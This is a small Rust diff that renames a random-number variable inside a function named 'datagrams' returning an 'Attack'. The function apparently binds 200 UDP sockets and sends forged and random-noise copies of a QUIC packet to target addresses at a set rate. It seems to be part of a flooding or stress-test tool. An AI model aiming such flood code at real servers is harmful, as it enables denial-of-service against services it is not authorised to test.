@@ -159,10 +159,10 @@ fn first_packets(client: quinn::ClientConfig, count: usize) -> Vec<Vec<u8>> {
 fn datagrams(packet: Vec<u8>, targets: Vec<SocketAddr>, per_second: usize) -> Attack {
     Box::new(move |over, done| {
         let sockets: Vec<_> = (0..200).map(|n| UdpSocket::bind(elsewhere(n)).expect("a port")).collect();
-        let mut dice = 7u64;
+        let mut rng = 7u64;
         let mut roll = || {
-            dice = dice.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
-            dice >> 33
+            rng = rng.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+            rng >> 33
         };
         let (mut noise, mut forged) = (packet.clone(), packet.clone());
         noise.iter_mut().for_each(|byte| *byte = roll() as u8);
